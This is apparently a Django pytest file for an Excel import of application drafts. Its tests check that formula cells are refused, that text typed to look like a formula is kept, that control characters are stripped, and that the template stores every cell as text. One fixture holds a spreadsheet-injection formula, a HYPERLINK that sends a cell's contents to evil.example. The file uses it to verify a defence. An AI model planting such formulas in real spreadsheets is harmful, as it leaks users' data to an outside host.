"""Excel import: a formula cell is refused by cell; text that only starts like a formula is kept as typed."""

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from apps.applications import imports
from apps.applications.imports import COLUMN_OF, HEADINGS, build_template
from apps.applications.models import Application
from tests.applications.test_import import row

pytestmark = pytest.mark.django_db


def _upload(client, sheet_rows, text_cells=()) -> str:
    wb = Workbook()
    ws = wb.active
    ws.append(HEADINGS)
    for values in sheet_rows:
        ws.append(values)
    for coordinate in text_cells:  # what Excel stores when a person types '=… or -…: a string cell
        ws[coordinate].data_type = "s"
    out = io.BytesIO()
    wb.save(out)
    response = client.post(reverse("applications:import"),
                           {"file": SimpleUploadedFile("申报表.xlsx", out.getvalue())}, follow=True)
    return response.content.decode()


def test_a_formula_cell_is_refused_and_nothing_is_imported(client, submitter, term):
    client.force_login(submitter)
    body = _upload(client, [row(**{"事项名称": '=HYPERLINK("http://evil.example/?d="&B5,"点击")'})])
    assert "不能导入公式" in body and "C2" in body
    assert not Application.objects.exists()


def test_typed_text_that_starts_like_a_formula_is_kept_as_text(client, submitter, term):
    client.force_login(submitter)
    body = _upload(client, [row(**{"事项名称": "-交通安全教育", "主要内容": "=讲解交通规则"})],
                   text_cells=(f"{COLUMN_OF['title']}2", f"{COLUMN_OF['content']}2"))
    assert "已导入 1 份申报草稿" in body, body
    assert Application.objects.values_list("title", "content").get() == ("-交通安全教育", "=讲解交通规则")


def test_a_control_character_in_an_imported_cell_is_cleaned(client, submitter, term, monkeypatch):
    # openpyxl can neither write nor read such a character, but another reader might hand one over
    read = imports._cell_values

    def with_control_character(sheet, formulas):
        for values in read(sheet, formulas):
            yield tuple(v.replace("交通安全", "交通\x0b安全") if isinstance(v, str) else v for v in values)

    monkeypatch.setattr(imports, "_cell_values", with_control_character)
    client.force_login(submitter)
    body = _upload(client, [row()])
    assert "已导入 1 份申报草稿" in body, body
    assert Application.objects.get().title == "交通安全教育进校园"


def test_the_template_writes_every_text_as_text(client):
    wb = load_workbook(io.BytesIO(build_template()))
    cells = [c for ws in wb.worksheets for r in ws.iter_rows() for c in r if c.value is not None]
    assert cells and all(c.data_type == "s" for c in cells)
